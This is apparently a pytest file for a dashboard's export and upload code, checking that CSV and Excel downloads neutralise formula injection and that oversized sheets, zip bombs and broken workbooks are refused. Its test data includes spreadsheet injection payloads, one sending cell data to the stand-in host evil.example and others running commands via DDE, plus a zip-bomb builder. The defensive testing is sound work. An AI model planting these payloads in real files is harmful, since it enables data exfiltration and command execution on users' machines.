"""Robustness and security: hostile cells in downloads, limits, messy files (issue 15)."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile

import openpyxl
import pandas as pd
import pytest

from indicators.cli import main
from indicators.errors import DataError
from indicators.io.export import labelled_results, safe_cells, to_csv, to_excel
from indicators.io.load import load_table
from indicators.registry.catalog import load_registry

REG = load_registry()
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _results(names):
    return pd.DataFrame(
        {
            "region": names,
            "indicator": ["income_gini"] * len(names),
            "value": [-0.5 - i for i in range(len(names))],
            "suppressed": [False] * len(names),
        }
    )


# --- 1. safe exports (OWASP CSV injection) -------------------------------------------------


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_csv_download_neutralises_formulas_and_keeps_numbers(lang):
    data = to_csv(labelled_results(_results([*HOSTILE, "Fryslân", "-3,5"]), REG, lang), lang)
    sep, dec = (";", ",") if lang == "nl" else (",", ".")
    back = pd.read_csv(io.BytesIO(data), sep=sep, decimal=dec, encoding="utf-8-sig", dtype=str)
    assert back["region"].tolist()[: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert back["region"].tolist()[-2:] == ["Fryslân", "-3,5"]  # a number as text stays
    # negative numbers stay numbers, written as the language writes them
    values = pd.read_csv(io.BytesIO(data), sep=sep, decimal=dec, encoding="utf-8-sig")["value"]
    assert values.tolist()[:2] == [-0.5, -1.5]
    # no line of the file starts a cell with a formula character
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=sep))
    assert len(rows) == 1 + len(HOSTILE) + 2  # a carriage return in a name splits no row
    for cell in (c for row in rows[1:] for c in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_excel_download_has_no_formula_and_shows_the_name_as_written():
    data = to_excel(labelled_results(_results(HOSTILE), REG, "en"), {"Source": "=evil.csv"}, "en")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["results"]
    names = [sheet.cell(row=r, column=1).value for r in range(2, 2 + len(HOSTILE))]
    # text, exactly as in the file (a carriage return comes back as a line feed: XML)
    assert names == [h.replace("\r", "\n") for h in HOSTILE]
    assert all(sheet.cell(row=r, column=1).quotePrefix for r in range(2, 2 + len(HOSTILE)))
    assert book["about"]["B1"].data_type == "s"
    assert book["about"]["B1"].value == "=evil.csv"
    value = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("value") + 1)
    assert value.value == -0.5 and value.data_type == "n"
    # the raw sheet XML has no <f> (formula) element at all
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_safe_cells_leaves_numbers_categories_and_the_input_alone():
    frame = pd.DataFrame(
        {
            "n": [-1, 2],
            "x": [-1.5, float("nan")],
            "c": pd.Categorical(["=a", "b"]),
            "=col": ["ok", None],
        }
    )
    out = safe_cells(frame)
    assert out["n"].tolist() == [-1, 2] and out["n"].dtype == frame["n"].dtype
    assert out["x"].iloc[0] == -1.5
    assert out["c"].tolist() == ["'=a", "b"]
    assert list(out.columns) == ["n", "x", "c", "'=col"]
    assert pd.isna(out["'=col"].iloc[1])
    assert frame["c"].tolist() == ["=a", "b"]  # unchanged


@pytest.fixture
def hostile_micro(tmp_path):
    path = tmp_path / "hostile.csv"
    pd.DataFrame(
        {
            "regio": [HOSTILE[0]] * 3 + ["@evil"] * 3,
            "x": [-1.0, -2.0, -3.0, 4.0, 5.0, 6.0],
        }
    ).to_csv(path, sep=";", index=False)
    return path


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_command_line_out_is_safe(hostile_micro, tmp_path, suffix):
    out = tmp_path / f"out.{suffix}"
    args = ["measures", str(hostile_micro), "--value", "x", "--region", "regio"]
    assert main([*args, "--measures", "mean", "--out", str(out)]) == 0
    if suffix == "csv":
        table = pd.read_csv(out)
        assert set(table["regio"]) == {"'" + HOSTILE[0], "'@evil", "Total"}
        assert table.loc[table["regio"] == "'" + HOSTILE[0], "value"].iloc[0] == -2.0
    else:
        book = openpyxl.load_workbook(out)
        ws = book.active
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert {ws.cell(row=r, column=1).value for r in range(2, ws.max_row + 1)} == {
            HOSTILE[0],
            "@evil",
            "Total",
        }


def test_command_line_stdout_is_safe(hostile_micro, capsys):
    args = ["measures", str(hostile_micro), "--value", "x", "--region", "regio"]
    assert main([*args, "--measures", "mean"]) == 0
    table = pd.read_csv(io.StringIO(capsys.readouterr().out))
    assert "'@evil" in set(table["regio"])


# --- 2. limits that protect the machine ----------------------------------------------------


def _workbook(fill) -> bytes:
    book = openpyxl.Workbook()
    fill(book.active)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_stray_far_cell_is_refused_before_the_sheet_is_read():
    def fill(ws):
        ws.title = "Gegevens"
        ws.append(["regio", "x"])
        ws.append(["A", 1])
        ws["XFD1048576"] = 1

    data = _workbook(fill)
    assert len(data) < 10_000
    started = time.perf_counter()
    with pytest.raises(DataError) as err:
        load_table(data, name="stray.xlsx")
    assert time.perf_counter() - started < 5  # pandas alone needs ~137 GB here
    assert str(err.value) == (
        "The sheet 'Gegevens' of 'stray.xlsx' reaches to cell XFD1048576: 1,048,576 rows by "
        "16,384 columns, more than the 5,000,000 cells this dashboard reads. Usually a stray "
        "cell lies far outside your table (Ctrl+End in Excel goes there): delete the rows and "
        "columns after your table, save and upload again, or save the sheet as CSV."
    )
    assert "XFD1048576: 1.048.576 rijen bij 16.384 kolommen" in err.value.text("nl")


def test_a_declared_dimension_that_lies_is_refused():
    data = _workbook(lambda ws: ws.append(["regio", "x"]) or ws.append(["A", 1]))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w") as w:
        for item in z.infolist():
            body = z.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:ZZ999999"', body)
            w.writestr(item, body)
    with pytest.raises(DataError, match=r"reaches to cell ZZ999999: 999,999 rows by 702"):
        load_table(out.getvalue(), name="lies.xlsx")


def _bomb(size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * size)
    return out.getvalue()


def test_a_zip_bomb_named_xlsx_is_refused_unopened():
    big = _bomb(300 * 1024**2)
    assert len(big) < 400_000
    with pytest.raises(DataError) as err:
        load_table(big, name="bomb.xlsx")
    assert str(err.value).startswith("The workbook 'bomb.xlsx' unpacks to 315 MB, more than the")
    assert "Save only the sheet with your table as CSV" in str(err.value)
    dense = _bomb(100 * 1024**2)
    with pytest.raises(DataError) as err:
        load_table(dense, name="dicht.xlsx")
    assert "its part 'xl/worksheets/sheet1.xml' unpacks to 1,0" in str(err.value)
    assert "zipbom" in err.value.text("nl")


def test_formulas_without_calculated_values_are_named():
    def fill(ws):
        ws.title = "Blad1"
        ws.append(["regio", "x", "dubbel"])
        ws.append(["A", 1, "=B2*2"])
        ws.append(["B", 2, "=B3*2"])

    with pytest.raises(DataError) as err:
        load_table(_workbook(fill), name="formules.xlsx")
    assert str(err.value) == (
        "The sheet 'Blad1' of 'formules.xlsx' has 2 cell(s) with a formula but no calculated "
        "value ('C2', 'C3'): the file was made by a program and never saved in a spreadsheet. "
        "Open it in Excel or LibreOffice, save it and upload it again."
    )


def test_a_workbook_with_a_damaged_part_is_a_data_error():
    data = _workbook(lambda ws: ws.append(["regio", "x"]) or ws.append(["A", 1]))
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w") as w:
        for item in z.infolist():
            body = z.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = body[: len(body) // 2]  # broken XML
            w.writestr(item, body)
    with pytest.raises(DataError, match="is not an Excel workbook"):
        load_table(out.getvalue(), name="kapot.xlsx")
